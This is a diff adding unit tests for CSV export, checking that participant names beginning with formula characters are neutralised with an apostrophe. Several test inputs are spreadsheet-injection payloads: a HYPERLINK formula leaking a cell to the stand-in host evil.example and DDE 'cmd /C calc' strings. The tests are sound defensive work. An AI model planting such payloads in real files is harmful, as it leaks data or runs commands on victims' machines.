@@ -177,6 +177,112 @@ test_quote_field (void)
     }
 }
 
+/* docs/csv.md, "Spreadsheet formulas are neutralised": the scores CSV of
+ * a session with one participant named @name, written out in full. */
+static void
+assert_name_written_as (const char *name, const char *expected_line)
+{
+  g_autoptr (ThDeck) deck = th_deck_new_builtin ();
+  g_autoptr (ThSession) session = th_session_new (deck);
+  g_autoptr (GBytes) csv = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autofree char *expected = NULL;
+
+  g_assert_nonnull (th_session_add_participant (session, name, &error));
+  g_assert_no_error (error);
+  csv = th_session_to_csv (session, FALSE);
+  expected = g_strconcat ("id,name,leadership,management,quadrant,sorted,correct\n", expected_line,
+                          "\n", NULL);
+  g_assert_cmpmem (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv), expected,
+                   strlen (expected));
+}
+
+static void
+test_formula_equals (void)
+{
+  /* The name that would send the cell beside it to another site. */
+  assert_name_written_as ("=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Click\")",
+                          "p1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B3,\"\"Click\"\")\","
+                          ",,,0,0");
+  assert_name_written_as ("=1+1", "p1,'=1+1,,,,0,0");
+}
+
+static void
+test_formula_plus (void)
+{
+  assert_name_written_as ("+cmd|' /C calc'!A0", "p1,'+cmd|' /C calc'!A0,,,,0,0");
+  assert_name_written_as ("+44 20 7946 0000", "p1,'+44 20 7946 0000,,,,0,0");
+}
+
+static void
+test_formula_minus (void)
+{
+  assert_name_written_as ("-ana-", "p1,'-ana-,,,,0,0");
+  assert_name_written_as ("-2+3+cmd|' /C calc'!A0", "p1,'-2+3+cmd|' /C calc'!A0,,,,0,0");
+}
+
+/* A name that reads as a negative number gets its apostrophe too: the
+ * rule looks at the first character only, as docs/csv.md says. */
+static void
+test_formula_negative_number (void)
+{
+  assert_name_written_as ("-5", "p1,'-5,,,,0,0");
+}
+
+static void
+test_formula_at (void)
+{
+  assert_name_written_as ("@SUM(1+1)*cmd|' /C calc'!A0", "p1,'@SUM(1+1)*cmd|' /C calc'!A0,,,,0,0");
+  assert_name_written_as ("@ana", "p1,'@ana,,,,0,0");
+}
+
+/* Names cannot hold a tab or a carriage return (docs/session-format.md),
+ * so these two are checked on a field by itself; the rule is the same for
+ * every field. */
+static void
+test_formula_tab (void)
+{
+  g_autofree char *quoted = th_csv_quote_field ("\t=1+1");
+
+  g_assert_cmpstr (quoted, ==, "'\t=1+1");
+}
+
+static void
+test_formula_carriage_return (void)
+{
+  g_autofree char *quoted = th_csv_quote_field ("\r=1+1");
+
+  /* The apostrophe goes in first, then the field is quoted for its CR. */
+  g_assert_cmpstr (quoted, ==, "\"'\r=1+1\"");
+}
+
+/* Quoting applies to the field with its apostrophe, and only the first
+ * character counts. */
+static void
+test_formula_quoted_and_inner (void)
+{
+  const struct
+  {
+    const char *field;
+    const char *expected;
+  } cases[] = {
+    { "=SUM(A1, A2)", "\"'=SUM(A1, A2)\"" },
+    { "@\"x\"", "\"'@\"\"x\"\"\"" },
+    { "Ana=Bob", "Ana=Bob" },
+    { "Ana-Maria", "Ana-Maria" },
+    { " =1+1", " =1+1" },
+    { "'=1+1", "'=1+1" },
+    { "", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *quoted = th_csv_quote_field (cases[i].field);
+
+      g_assert_cmpstr (quoted, ==, cases[i].expected);
+    }
+}
+
 static gboolean
 is_score_field (const char *field)
 {
@@ -349,6 +455,14 @@ main (int argc, char *argv[])
   g_test_add_func ("/csv/fixture", test_fixture);
   g_test_add_func ("/csv/names-read-back", test_names_read_back);
   g_test_add_func ("/csv/quote-field", test_quote_field);
+  g_test_add_func ("/csv/formula/equals", test_formula_equals);
+  g_test_add_func ("/csv/formula/plus", test_formula_plus);
+  g_test_add_func ("/csv/formula/minus", test_formula_minus);
+  g_test_add_func ("/csv/formula/negative-number", test_formula_negative_number);
+  g_test_add_func ("/csv/formula/at", test_formula_at);
+  g_test_add_func ("/csv/formula/tab", test_formula_tab);
+  g_test_add_func ("/csv/formula/carriage-return", test_formula_carriage_return);
+  g_test_add_func ("/csv/formula/quoted-and-inner", test_formula_quoted_and_inner);
   g_test_add_func ("/csv/decimals", test_decimals);
   g_test_add_func ("/csv/empty-session", test_empty_session);
   g_test_add_func ("/csv/comma-locale", test_comma_locale);
